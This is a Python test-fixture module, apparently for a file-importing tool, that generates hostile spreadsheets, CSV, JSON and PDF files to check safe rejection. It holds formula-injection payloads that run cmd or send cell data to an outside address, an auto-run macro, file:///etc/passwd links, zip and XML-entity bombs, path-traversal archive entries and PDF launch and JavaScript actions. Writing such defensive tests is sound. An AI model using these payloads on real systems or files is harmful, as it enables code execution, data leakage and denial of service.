"""Which files would do harm: run something, fill the memory, never end, or reach out?

`CANARY` is a name that every command in these files would leave behind in the working folder.
"""

import io
import zipfile
import zlib
from functools import partial
from pathlib import Path

from messy.books import SHEET_FOOT, SHEET_HEAD, formula, raw, raw_rows, write_raw, write_xlsx
from messy.cases import ANY, HEADER, Bad, Case, Either, Noise, cells, good, goods, text, title
from messy.separated import saved, table

CANARY = "canary-of-the-messy-files"
RUN = f"=cmd|' /C touch {CANARY}'!A0"
LINK = '=HYPERLINK("http://192.0.2.1/?"&A1,"開く")'
SERVICE = '=WEBSERVICE("http://192.0.2.1/"&A1)'
FORMULAS = (RUN, LINK, SERVICE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1")
ROWS = [HEADER, cells(1), cells(2), cells(3, trl=12)]
SHEET = "シーズ一覧"
BAD_TRL = Bad(4, "12|1.*9", column="TRL", sheet=SHEET)
TOO_BIG = "large|big|inflat|unpack|uncompress|bomb|MB|MiB|bytes|character|展開"
LOCKED = "password|encrypt|暗号|パスワード"


def encrypted(path: Path, *, name: str = "x.xlsx") -> None:
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = path.with_name(name)
    write_xlsx(plain, sheets={SHEET: ROWS})
    with plain.open("rb") as source, path.open("wb") as target:
        OOXMLFile(source).encrypt("secret", target)
    plain.unlink()


def half(path: Path) -> None:
    write_xlsx(path, sheets={SHEET: ROWS})
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


def flipped(path: Path) -> None:
    """Damage the compressed bytes of the sheet; the directory of the archive stays whole."""
    write_raw(path, rows=ROWS)
    with zipfile.ZipFile(path) as archive:
        start = archive.getinfo("xl/worksheets/sheet1.xml").header_offset
    data = bytearray(path.read_bytes())
    for place in range(start + 80, start + 140):
        data[place] ^= 0x5A
    path.write_bytes(data)


def bomb(path: Path, *, size: int = 600_000_000) -> None:
    """A sheet of 600 MB in half a megabyte: one text of blanks in a cell."""
    write_raw(path, sheet="written below")
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part,
    ):
        part.write((SHEET_HEAD + '<row r="1"><c r="A1" t="inlineStr"><is><t>').encode())
        for _ in range(size // 1_000_000):
            part.write(b"a" * 1_000_000)
        part.write(("</t></is></c></row>" + SHEET_FOOT).encode())


def row_bomb(path: Path) -> None:
    """A sheet of 250 MB in many rows that hold nothing but blanks."""
    write_raw(path, sheet="written below")
    block = b'<row><c t="inlineStr"><is><t>' + b" " * 940 + b"</t></is></c></row>"
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part,
    ):
        part.write(SHEET_HEAD.encode())
        for _ in range(250):
            part.write(block * 1_000)
        part.write(SHEET_FOOT.encode())


def many_parts(path: Path) -> None:
    write_raw(path, rows=ROWS, more={f"xl/media/{n}.bin": b"" for n in range(20_000)})


def nested_bomb(path: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.bin", b"\0" * 50_000_000)
    write_raw(path, rows=ROWS, more={"xl/embeddings/inner.zip": inner.getvalue()})


def escaping(path: Path) -> None:
    write_raw(path, rows=ROWS, more={f"../{CANARY}": b"x", f"/tmp/{CANARY}": b"x"})


def entities(path: Path) -> None:
    """A sheet whose XML entities grow a thousand million times."""
    grow = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    start = f'<!DOCTYPE x [<!ENTITY e0 "aaaaaaaaaa">{grow}<!ENTITY f SYSTEM "file:///etc/hostname">]>'
    cell = '<row r="1"><c r="A1" t="inlineStr"><is><t>&e9;&f;</t></is></c></row>'
    head, body = SHEET_HEAD.split("?>", 1)
    write_raw(path, sheet="written below")
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", f"{head}?>{start}{body}{cell}{SHEET_FOOT}")


def far_cell(path: Path) -> None:
    """A sheet that says it is a million rows by 16,384 columns: four rows and one cell at the far corner."""
    corner = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>隅</t></is></c></row>'
    head = SHEET_HEAD.replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>')
    write_raw(path, sheet="written below")
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", head + raw_rows(ROWS) + corner + SHEET_FOOT)


def big_cell(path: Path) -> None:
    head, cell = table([HEADER, cells(1)]), "a" * 50_000_000
    path.write_text(f"{head}S-002,{title(2)},{cell},例示大学,3\r\n{table([cells(3)])}", encoding="utf-8")


def big_line(path: Path) -> None:
    path.write_text('{"id": "J-1", "text": {"en": "' + "a" * 50_000_000 + '"}}\n', encoding="utf-8")


def pdf_objects(path: Path, *, objects: list[bytes]) -> None:
    """Write a PDF from its objects, number 1 the catalog."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    path.write_bytes(out)


def stream(data: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def packed_blanks(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(b" " * 1_000_000) for _ in range(megabytes)) + packer.flush()
    return b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream"


FORM = (
    b"BT /F1 12 Tf 72 720 Td (Title: Steam from waste heat) Tj "
    b"0 -20 Td (Abstract: A boiler that reuses heat.) Tj ET"
)
PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
    b"/Resources << /Font << /F1 5 0 R >> >> %s >>"
)
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
ACT = b"/S /JavaScript /JS (app.launchURL\\('http://192.0.2.1/'\\))"
SCRIPTED = [
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction << %s >> /AA << /WC << /S /Launch /F (touch %s) >> >> >>"
    % (ACT, CANARY.encode()),
    PAGES,
    PAGE % b"/AA << /O << /S /URI /URI (http://192.0.2.1/) >> >>",
    stream(FORM),
    FONT,
]
LOOPING = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 /Parent 2 0 R >>",
    PAGE % b"",
    b"<< /Length 4 0 R >>\nstream\nq Q\nendstream",
    FONT,
]
STEAM = Either("Steam from waste heat", None, {"text": "A boiler that reuses heat."}, ANY)


def swollen(path: Path) -> None:
    objects = [LOOPING[0], PAGES, PAGE % b"", packed_blanks(300), FONT]
    pdf_objects(path, objects=objects)


def deep(depth: int) -> str:
    return '{"a":' * depth + "1" + "}" * depth


def formula_rows(column: int) -> list[list[str]]:
    rows = [cells(n) for n in range(1, len(FORMULAS) + 1)]
    for row, code in zip(rows, FORMULAS, strict=True):
        row[column] = code
    return rows


CELLS = (
    Case(
        "formulas in the texts of a table of values",
        "formulas.csv",
        saved(table([HEADER, *formula_rows(2), cells(9)])),
        goods(9),
        either=tuple(Either(title(n), n + 1, {"text": code}) for n, code in enumerate(FORMULAS, 1)),
        hostile=True,
    ),
    Case(
        "formulas with stored results that call out",
        "calls.xlsx",
        raw(
            [
                HEADER,
                [*cells(1)[:2], formula(RUN[1:], text(1)), *cells(1)[3:]],
                [*cells(2)[:2], formula(SERVICE[1:]), *cells(2)[3:]],
                cells(3),
            ]
        ),
        goods(3),
        (Bad(3, "formula|数式|式", column="技術概要", sheet=SHEET),),
        either=(Either(title(1), 2, good(1).values, SHEET),),
        hostile=True,
    ),
    Case(
        "macros",
        "macros.xlsm",
        raw(ROWS, macros=b"Sub Auto_Open: Shell touch " + CANARY.encode()),
        goods(1, 2),
        (BAD_TRL,),
        or_whole="macro|xlsm|マクロ",
        hostile=True,
    ),
    Case(
        "macros under the suffix xlsx",
        "macros.xlsx",
        raw(ROWS, macros=b"Auto_Open"),
        goods(1, 2),
        (BAD_TRL,),
        or_whole="macro|マクロ",
        hostile=True,
    ),
    Case(
        "links to workbooks elsewhere",
        "links.xlsx",
        raw(ROWS, links=("http://192.0.2.1/a.xlsx", "file:///etc/passwd")),
        goods(1, 2),
        (BAD_TRL,),
        or_whole="link|external",
        hostile=True,
    ),
    Case(
        "a cell of 50 MB",
        "bigcell.csv",
        big_cell,
        goods(1),
        (Bad(3, TOO_BIG),),
        either=(Either(title(3), 4, good(3).values),),
        or_whole=TOO_BIG,
        hostile=True,
    ),
    Case(
        "a line of 50 MB",
        "bigline.jsonl",
        big_line,
        refused=(Bad(1, TOO_BIG),),
        or_whole=TOO_BIG,
        hostile=True,
    ),
)
BOOKS = (
    Case("a workbook behind a password", "locked.xlsx", encrypted, whole=LOCKED, hostile=True),
    Case(
        "half a workbook", "half.xlsx", half, whole="damaged|truncat|zip|incomplete|xlsx|read", hostile=True
    ),
    Case(
        "a workbook with damaged bytes", "flipped.xlsx", flipped, whole="damaged|xlsx|read|CRC", hostile=True
    ),
    Case("an empty workbook file", "empty.xlsx", saved(b""), whole="empty|xlsx|zip", hostile=True),
    Case("a text of 600 MB in a small workbook", "bomb.xlsx", bomb, whole=TOO_BIG, hostile=True),
    Case("rows of 250 MB in a small workbook", "rows.xlsx", row_bomb, whole=TOO_BIG, hostile=True),
    Case(
        "a workbook of 20,000 parts",
        "parts.xlsx",
        many_parts,
        goods(1, 2),
        (BAD_TRL,),
        or_whole="part|entr|file",
        hostile=True,
    ),
    Case(
        "an archive in a workbook",
        "nested.xlsx",
        nested_bomb,
        goods(1, 2),
        (BAD_TRL,),
        or_whole=TOO_BIG,
        hostile=True,
    ),
    Case(
        "parts that climb out of the archive",
        "climbing.xlsx",
        escaping,
        goods(1, 2),
        (BAD_TRL,),
        or_whole="part|path|name",
        hostile=True,
    ),
    Case("entities that grow, and one of a file", "entities.xlsx", entities, whole=".", hostile=True),
    Case(
        "a cell at the far corner of a sheet",
        "corner.xlsx",
        far_cell,
        goods(1, 2),
        (BAD_TRL,),
        noise=(Noise(1048576, SHEET),),
        or_whole=TOO_BIG + "|rows|columns|cells",
        hostile=True,
    ),
)
REST = (
    Case(
        "JSON nested 100,000 deep",
        "deep.json",
        saved(f'[{{"id": "J-1", "text": {deep(100_000)}}}]'),
        refused=(Bad(1, "deep|nest|depth|recurs"),),
        or_whole="deep|nest|depth|recurs",
        hostile=True,
    ),
    Case(
        "a list nested 100,000 deep",
        "lists.json",
        saved("[" * 100_000),
        whole="JSON|deep|nest|depth|ends",
        hostile=True,
    ),
    Case(
        "a line of JSON nested 100,000 deep",
        "deep.jsonl",
        saved(
            f'{{"text": {deep(100_000)}}}\n'
            f'{{"id": "J-2", "title": {{"ja": "{title(1)}"}}, "text": {{"ja": "{text(1)}"}}}}\n'
        ),
        (good(1, organisation=None, trl=None),),
        (Bad(1, "deep|nest|depth|recurs"),),
        hostile=True,
    ),
    Case(
        "a number of 5,000 digits",
        "digits.json",
        saved('[{"id": "J-1", "text": {"ja": "膜です"}, "trl": ' + "9" * 5000 + "}]"),
        refused=(Bad(1, "digit|trl|number|9"),),
        or_whole="digit|number",
        hostile=True,
    ),
    Case(
        "scripts and launches in PDF",
        "scripted.pdf",
        partial(pdf_objects, objects=SCRIPTED),
        either=(STEAM,),
        or_whole=".",
        hostile=True,
    ),
    Case(
        "a tree of pages that loops in PDF",
        "looping.pdf",
        partial(pdf_objects, objects=LOOPING),
        whole=".",
        hostile=True,
    ),
    Case("300 MB of blanks in a small PDF", "swollen.pdf", swollen, whole=".", hostile=True),
    Case(
        "NUL from end to end",
        "nuls.csv",
        saved(bytes(100_000)),
        whole="NUL|binary|empty|no |0x00|null",
        hostile=True,
    ),
    Case(
        "a picture that calls itself csv",
        "picture.csv",
        saved(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40),
        whole=".",
        hostile=True,
    ),
    Case(
        "a suffix that nobody reads",
        "list.zip",
        saved(b"PK\x05\x06" + bytes(18)),
        whole="known|zip",
        hostile=True,
    ),
)

CASES = (*CELLS, *BOOKS, *REST)
